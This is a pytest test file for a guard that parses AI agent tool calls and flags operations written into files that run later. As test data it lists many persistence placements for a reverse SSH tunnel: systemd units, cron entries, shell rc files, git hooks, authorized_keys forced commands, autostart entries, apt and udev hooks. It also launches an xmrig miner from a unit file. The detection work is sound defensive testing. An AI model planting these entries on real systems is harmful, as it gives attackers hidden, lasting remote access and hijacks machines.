"""Files that a call writes and that something will start later."""

from __future__ import annotations

from typing import Any

import pytest

from guard.model import ToolCall
from guard.parse import parse

FORWARD = "ssh -R 2222:localhost:22 u@h"


def _operations(tool: str, arguments: dict[str, Any]) -> list[Any]:
    return list(parse(ToolCall(tool, arguments)).operations)


def _written(path: str, text: str) -> list[Any]:
    return _operations("bash", {"command": f"cat > {path} <<'END'\n{text}\nEND\n"})


PLACES = [
    ("/etc/systemd/system/x.service", f"[Service]\nExecStart=-/usr/bin/{FORWARD}"),
    ("~/.config/systemd/user/x.service", f"[Service]\nExecStartPre=+/usr/bin/{FORWARD}"),
    ("x.service", "[Service]\nExecStart=/usr/bin/ssh \\\n  -R 2222:localhost:22 u@h"),
    ("/etc/cron.d/x", f"MAILTO=a\n# no\n*/5 * * * * root {FORWARD} % no"),
    ("/etc/crontab", f"@reboot root {FORWARD}"),
    ("/var/spool/cron/crontabs/me", f"0 1 * * * {FORWARD}"),
    ("/etc/cron.daily/x", f"#!/bin/sh\n{FORWARD}"),
    ("~/.bashrc", FORWARD),
    ("/etc/profile.d/x.sh", f"if true; then {FORWARD}; fi"),
    ("repo/.git/hooks/post-checkout", f"#!/bin/sh\n{FORWARD}"),
    (".husky/pre-commit", FORWARD),
    (".git/hooks/pre-push", f"#!/usr/bin/env python3\nimport os\nos.system('{FORWARD}')"),
    ("~/.ssh/authorized_keys", f'restrict,command="{FORWARD}" ssh-ed25519 AAAA'),
    ("~/.config/autostart/x.desktop", f"[Desktop Entry]\nExec={FORWARD}"),
    ("/etc/apt/apt.conf.d/9x", f'APT::Update::Pre-Invoke {{"{FORWARD}"; }};'),
    ("/etc/udev/rules.d/9.rules", f'ACTION=="add", RUN+="/usr/bin/{FORWARD}"'),
]


@pytest.mark.parametrize(("path", "text"), PLACES)
def test_what_will_be_started_may_run(path: str, text: str) -> None:
    """The tunnel in the file is found, as something that may happen."""
    (tunnel,) = [o for o in _written(path, text) if o["kind"] == "network.tunnel"]
    assert (tunnel["direction"], tunnel["certainty"]) == ("remote", "may")
    assert tunnel["via"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("notes.md", FORWARD),
        ("x.service", f"[Unit]\nDescription={FORWARD}\n# ExecStart={FORWARD}"),
        ("/etc/cron.d/x", f"# {FORWARD}"),
        (".git/hooks/pre-push.sample", FORWARD),
        ("~/.bashrc", f"alias far='{FORWARD}'"),
        ("~/.ssh/authorized_keys", f"ssh-ed25519 AAAA {FORWARD}"),
        ("applications/x.desktop", f"Exec={FORWARD}"),
    ],
)
def test_mentions_run_nothing(path: str, text: str) -> None:
    """Comments, notes, samples and definitions start nothing."""
    assert [o for o in _written(path, text) if o["kind"] == "network.tunnel"] == []


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("bash", {"command": f"echo '{FORWARD}' | sudo tee -a /etc/profile.d/x.sh"}),
        ("python", {"code": f"open('/root/.bashrc', 'w').write('{FORWARD}\\n')"}),
        ("write_file", {"path": "/root/.bashrc", "content": FORWARD}),
    ],
)
def test_it_does_not_matter_who_writes(tool: str, arguments: dict[str, Any]) -> None:
    """Shell, Python and file tools alike."""
    found = _operations(tool, arguments)
    assert [o["direction"] for o in found if o["kind"] == "network.tunnel"] == ["remote"]


def test_a_table_given_to_crontab_is_read_once() -> None:
    """The program itself reads its jobs; they are not counted again."""
    found = _operations("bash", {"command": f"echo '0 1 * * * {FORWARD}' | crontab -"})
    assert len([o for o in found if o["kind"] == "network.tunnel"]) == 1


def test_an_unknown_piece_of_a_unit_hides_only_itself() -> None:
    """`$BASE/xmrig` in a unit is xmrig, wherever it lies."""
    command = "cat > m.service <<E\n[Service]\nExecStart=$BASE/xmrig -o $POOL -u $USER\nE\n"
    found = _operations("bash", {"command": command})
    assert "xmrig" in [o["program"] for o in found if o["kind"] == "process.exec"]
